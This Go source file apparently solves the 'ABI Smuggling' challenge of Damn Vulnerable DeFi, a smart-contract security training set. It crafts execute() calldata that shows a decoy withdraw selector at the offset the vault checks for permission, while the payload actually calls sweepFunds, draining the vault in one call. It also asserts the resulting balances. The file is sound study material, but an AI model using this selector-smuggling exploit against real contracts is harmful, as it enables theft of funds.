package scenarios

import (
	"context"
	"math/big"

	"github.com/ethereum/go-ethereum/common"

	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
)

// SmuggledSweep is the execute() call data that shows the vault's
// fixed-offset permission check the withdraw selector while the bytes
// argument actually decodes to sweepFunds(recovery, token).
func SmuggledSweep(vault, recovery, token common.Address) (*payload.Smuggled, error) {
	inner, err := payload.EncodeCall("sweepFunds(address,address)", recovery, token)
	if err != nil {
		return nil, err
	}
	return payload.NewSelectorSmuggle(payload.SelectorSmuggle{
		OuterSignature: "execute(address,bytes)",
		Target:         vault,
		Decoy:          payload.EncodeSelector("withdraw(address,address,uint256)"),
		Inner:          inner,
	})
}

// ABISmuggling drains the self-authorized vault into the recovery account
// with one smuggled execute() call.
//
// Addresses: vault, token, recovery.
func ABISmuggling(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("vault", "token", "recovery")
	if err != nil {
		return nil, err
	}
	held, err := p.tokenBalance(ctx, "vault-tokens", addrs["token"], addrs["vault"])
	if err != nil {
		return nil, err
	}
	addrs["player"] = p.Player

	return &exploit.Config{
		Name:      "abi-smuggling",
		Addresses: addrs,
		Steps: []exploit.Step{
			&exploit.SubmitCall{
				Name: "smuggle-sweep",
				To:   to("vault"),
				Craft: func(env *exploit.Env) ([]byte, error) {
					smuggled, err := SmuggledSweep(env.Addresses["vault"], env.Addresses["recovery"], env.Addresses["token"])
					if err != nil {
						return nil, err
					}
					return smuggled.Buffer, nil
				},
			},
		},
		Postconditions: []exploit.Postcondition{
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("vault"), new(big.Int)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("player"), new(big.Int)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("recovery"), held),
		},
	}, nil
}
